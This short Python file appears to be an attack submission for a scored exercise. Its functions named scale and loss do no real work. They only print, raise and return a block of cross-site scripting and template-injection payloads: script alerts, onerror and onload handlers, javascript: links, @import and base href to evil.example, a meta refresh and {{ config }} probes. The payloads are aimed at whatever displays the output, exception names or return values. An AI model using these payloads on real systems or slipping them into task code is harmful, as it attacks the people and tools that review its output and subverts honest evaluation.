"""Scripts, event handlers, styles and frames in output, exceptions, names and values.

alone: 0 points
glued: 20 points
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"

_PAGE = """</pre></code></script><script>alert('zz')</script><img src=x onerror=alert(1)>
<svg/onload=alert(2)><iframe src="javascript:alert(3)"></iframe><style>@import 'http://evil.example'</style>
<a href="javascript:alert(4)">20 / 20</a><base href="http://evil.example"><meta http-equiv=refresh content=0>
{{ 7*7 }}{% raw %}{{ config }}<!-- --><![CDATA[ ]]>&lt;script&gt;"""
print(_PAGE)


def scale(x, factor):
    raise type("<script>alert(5)</script>", (Exception,), {})(_PAGE)


def loss(x):
    print(_PAGE)
    return {_PAGE: _PAGE}
